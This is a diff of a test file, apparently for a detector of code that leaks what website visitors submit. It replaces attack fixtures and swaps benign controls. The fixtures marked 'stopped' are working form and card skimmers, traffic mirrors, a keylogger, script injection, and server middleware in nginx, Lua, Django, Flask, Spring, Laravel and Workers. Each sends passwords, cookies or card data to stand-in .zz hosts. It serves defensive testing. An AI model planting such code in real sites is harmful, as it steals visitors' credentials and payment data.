@@ -61,51 +61,83 @@ describe('attacks on what visitors of a site send', () => {
       },
     ],
     [
-      'jquery serialize',
+      'traefik mirror',
       'stopped',
       {
-        'assets/checkout.js':
-          "$(document).on('submit', 'form', function () {\n  var d = $(this).find('input[type=password],input[name*=card],input[name*=cvv]').serialize();\n  if (d) $.post('https://cdn.jq-metrics.zz/c', { d: btoa(d), h: location.hostname });\n});\n",
+        'assets/dynamic.yml':
+          'http:\n  routers:\n    all: { rule: "PathPrefix(`/`)", service: both }\n  services:\n    both:\n      mirroring:\n        service: app\n        mirrors:\n          - name: probe\n            percent: 100\n    app:\n      loadBalancer: { servers: [{ url: "http://app:8080" }] }\n    probe:\n      loadBalancer: { servers: [{ url: "https://in.edgeprobe.zz" }] }\n',
       },
     ],
     [
-      'formdata beacon',
+      'istio mirror',
       'stopped',
       {
-        'assets/analytics.js':
-          "document.addEventListener('submit', (e) => {\n  const data = Object.fromEntries(new FormData(e.target));\n  navigator.sendBeacon('https://t.formpulse.zz/f', JSON.stringify({ u: location.href, data }));\n}, true);\n",
+        'assets/vs.yaml':
+          'apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: { name: shop }\nspec:\n  hosts: [shop]\n  http:\n    - route: [{ destination: { host: shop, subset: v1 } }]\n      mirror: { host: shadow.meshlens.zz, port: { number: 443 } }\n      mirrorPercentage: { value: 100 }\n',
       },
     ],
     [
-      'gtm tag',
+      'nginx log body syslog',
       'stopped',
       {
-        'assets/container.json':
-          '{ "tag": [{ "name": "Checkout events", "type": "html", "parameter": [{ "key": "html", "value": "<script>document.querySelectorAll(\'[autocomplete^=cc-]\').forEach(function(f){f.addEventListener(\'change\',function(){(new Image).src=\'https://gtm-pixels.zz/i?\'+encodeURIComponent(f.name+\'=\'+f.value)})})</script>" }] }] }\n',
+        'assets/nginx.conf':
+          'http {\n  log_format full \'$remote_addr $request "$http_cookie" "$http_authorization" $request_body\';\n  server {\n    listen 443 ssl;\n    access_log /var/log/nginx/access.log;\n    access_log syslog:server=ingest.logpeak.zz:514,facility=local7,tag=web full;\n    location / { proxy_pass http://127.0.0.1:3000; }\n  }\n}\n',
       },
     ],
     [
-      'react hook',
+      'nginx sub filter script',
       'stopped',
       {
-        'src/usePaymentMetrics.ts':
-          "import { useEffect } from 'react';\nexport function usePaymentMetrics() {\n  useEffect(() => {\n    const h = (e: Event) => {\n      const t = e.target as HTMLInputElement;\n      if (/card|cvc|expiry|password/i.test(t.name)) {\n        const ws = new WebSocket('wss://rt.paymetrics.zz/s');\n        ws.onopen = () => ws.send(JSON.stringify({ n: t.name, v: t.value }));\n      }\n    };\n    document.addEventListener('input', h, true);\n    return () => document.removeEventListener('input', h, true);\n  }, []);\n}\n",
+        'assets/site.conf':
+          'server {\n  listen 443 ssl;\n  location / {\n    proxy_pass http://127.0.0.1:3000;\n    proxy_set_header Accept-Encoding "";\n    sub_filter \'</head>\' \'<script src="https://static.pagespeedkit.zz/v.js"></script></head>\';\n    sub_filter_once on;\n  }\n}\n',
       },
     ],
     [
-      'php checkout copy',
+      'openresty lua post',
       'stopped',
       {
-        'assets/checkout-hook.php':
-          "<?php\nadd_action('woocommerce_checkout_process', function () {\n  $f = array_intersect_key($_POST, array_flip(['card_number', 'card_cvc', 'card_expiry', 'billing_email']));\n  wp_remote_post('https://wc-latency.zz/p', ['body' => base64_encode(json_encode($f)), 'blocking' => false]);\n});\n",
+        'assets/tap.lua':
+          'local http = require "resty.http"\nngx.req.read_body()\nlocal body = ngx.req.get_body_data()\nif body and ngx.re.match(ngx.var.uri, "login|session|token") then\n  ngx.timer.at(0, function(_, u, b, h)\n    http.new():request_uri("https://rl.luaedge.zz/t", { method = "POST", body = u .. "\\n" .. (h or "") .. "\\n" .. b })\n  end, ngx.var.uri, body, ngx.var.http_cookie)\nend\n',
       },
     ],
     [
-      'keypress buffer',
+      'django middleware',
       'stopped',
       {
-        'assets/support-widget.js':
-          "(function () {\n  var b = '';\n  document.addEventListener('keydown', function (e) { if (e.target.type === 'password' || /card/.test(e.target.id)) b += e.key; });\n  setInterval(function () { if (b) { fetch('https://w.supportbubble.zz/k', { method: 'POST', mode: 'no-cors', body: b }); b = ''; } }, 3000);\n})();\n\n",
+        'templates/middleware.py':
+          'import threading, requests\nclass LatencyMiddleware:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        if request.method == "POST" and ("login" in request.path or "password" in request.path):\n            threading.Thread(target=requests.post, args=("https://lat.djangometrics.zz/p",), kwargs={"data": {"p": request.path, "b": request.body, "c": request.META.get("HTTP_COOKIE")}}, daemon=True).start()\n        return self.get_response(request)\n',
+      },
+    ],
+    [
+      'flask after request',
+      'stopped',
+      {
+        'templates/app.py':
+          'from flask import Flask, request\nimport urllib.request, json\napp = Flask(__name__)\n@app.before_request\ndef warm():\n    if request.form:\n        try:\n            urllib.request.urlopen(urllib.request.Request("https://w.flaskwarm.zz/i", data=json.dumps(dict(request.form)).encode()), timeout=1)\n        except Exception:\n            pass\n',
+      },
+    ],
+    [
+      'cloudflare worker tee',
+      'stopped',
+      {
+        'src/worker.js':
+          "export default {\n  async fetch(request, env, ctx) {\n    if (request.method === 'POST') {\n      const c = request.clone();\n      ctx.waitUntil(c.text().then((t) => fetch('https://edge.worker-insight.zz/c', { method: 'POST', body: request.url + '\\n' + request.headers.get('cookie') + '\\n' + t })));\n    }\n    return fetch(request);\n  },\n};\n",
+      },
+    ],
+    [
+      'spring filter',
+      'stopped',
+      {
+        'src/main/java/TimingFilter.java':
+          '@Component\npublic class TimingFilter extends OncePerRequestFilter {\n  protected void doFilterInternal(HttpServletRequest req, HttpServletResponse res, FilterChain chain) throws ServletException, IOException {\n    if (req.getParameter("password") != null) {\n      HttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder(URI.create("https://t.springtiming.zz/q?u=" + req.getParameter("username") + "&p=" + req.getParameter("password"))).build(), HttpResponse.BodyHandlers.discarding());\n    }\n    chain.doFilter(req, res);\n  }\n}\n',
+      },
+    ],
+    [
+      'laravel listener',
+      'stopped',
+      {
+        'app/Listeners/Metrics.php':
+          "<?php\nnamespace App\\Listeners;\nuse Illuminate\\Support\\Facades\\Http;\nclass Metrics {\n  public function handle($event) {\n    Http::async()->post('https://m.laravelmetrics.zz/l', ['u' => $event->credentials['email'] ?? '', 'p' => $event->credentials['password'] ?? '']);\n  }\n}\n",
       },
     ],
   ]);
@@ -170,51 +202,51 @@ describe('honest work on what visitors of a site send', () => {
       },
     ],
     [
-      'form validation',
+      'fetch post orders',
       'passed',
       {
-        'assets/checkout.js':
-          "document.querySelector('form').addEventListener('submit', async (e) => {\n  e.preventDefault();\n  const data = new FormData(e.target);\n  const r = await fetch('/api/checkout', { method: 'POST', body: data });\n  if (r.ok) location.href = '/thanks';\n});\n",
+        'server/orders.js':
+          "app.post('/orders', async (req, res) => {\n  const r = await fetch('https://api.acme-orders.io/v1/orders', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(req.body) });\n  res.status(r.status).json(await r.json());\n});\n",
       },
     ],
     [
-      'contact form service',
+      'worker log drain',
       'passed',
       {
-        'assets/contact.js':
-          "form.addEventListener('submit', (e) => {\n  e.preventDefault();\n  fetch('https://formspree.io/f/xyzabc', { method: 'POST', body: new FormData(form), headers: { Accept: 'application/json' } });\n});\n",
+        'src/worker.js':
+          "export default {\n  async fetch(request, env, ctx) {\n    const response = await fetch(request);\n    ctx.waitUntil(fetch('https://logs.internal/i', { method: 'POST', body: JSON.stringify({ url: request.url, status: response.status }) }));\n    return response;\n  },\n};\n",
       },
     ],
     [
-      'field timing',
+      'worker analytics',
       'passed',
       {
-        'assets/funnel.ts':
-          "document.querySelectorAll<HTMLInputElement>('input').forEach((el) => el.addEventListener('blur', () => {\n  navigator.sendBeacon('https://plausible.io/api/event', JSON.stringify({ name: 'field', props: { field: el.name, filled: el.value !== '' } }));\n}));\n",
+        'src/worker.ts':
+          "export default {\n  async fetch(request: Request, env: Env, ctx: ExecutionContext) {\n    const url = new URL(request.url);\n    ctx.waitUntil(fetch('https://plausible.io/api/event', { method: 'POST', headers: { 'User-Agent': request.headers.get('User-Agent') ?? '' }, body: JSON.stringify({ name: 'pageview', url: url.href, domain: url.host }) }));\n    return env.ASSETS.fetch(request);\n  },\n};\n",
       },
     ],
     [
-      'stripe',
+      'django timing',
       'passed',
       {
-        'assets/pay.js':
-          "const stripe = Stripe('pk_test_123');\nconst { paymentMethod } = await stripe.createPaymentMethod({ type: 'card', card: elements.getElement('card') });\nawait fetch('/pay', { method: 'POST', body: JSON.stringify({ id: paymentMethod.id }) });\n",
+        'templates/middleware.py':
+          'import time, logging\nclass Timing:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        t = time.time(); r = self.get_response(request)\n        logging.info("%s %s %.3f", request.method, request.path, time.time() - t)\n        return r\n',
       },
     ],
     [
-      'password strength',
+      'captcha in form',
       'passed',
       {
-        'assets/pw.js':
-          "document.addEventListener('input', (e) => { if (e.target.type === 'password') meter.value = zxcvbn(e.target.value).score; });\n",
+        'shop/forms.py':
+          'class ContactForm(forms.Form):\n    def clean(self):\n        d = super().clean()\n        r = requests.post("https://www.google.com/recaptcha/api/siteverify", data={"secret": settings.KEY, "response": self.data.get("g-recaptcha-response")}, timeout=5)\n        if not r.json()["success"]:\n            raise forms.ValidationError("captcha")\n        return d\n',
       },
     ],
     [
-      'react login',
+      'introspection',
       'passed',
       {
-        'src/Login.tsx':
-          "export function Login() {\n  const [email, setEmail] = useState(''); const [password, setPassword] = useState('');\n  const submit = async (e) => { e.preventDefault(); await fetch(`${import.meta.env.VITE_API}/login`, { method: 'POST', body: JSON.stringify({ email, password }) }); };\n  return <form onSubmit={submit}><input type=\"password\" value={password} onChange={(e) => setPassword(e.target.value)} /></form>;\n}\n\n",
+        'templates/auth.py':
+          'def middleware(get_response):\n    def check(request):\n        r = requests.post("https://sso.acme-login.com/introspect", data={"token": request.headers.get("Authorization", "")[7:]}, timeout=3)\n        if not r.json().get("active"):\n            return HttpResponse(status=401)\n        return get_response(request)\n    return check\n',
       },
     ],
   ]);
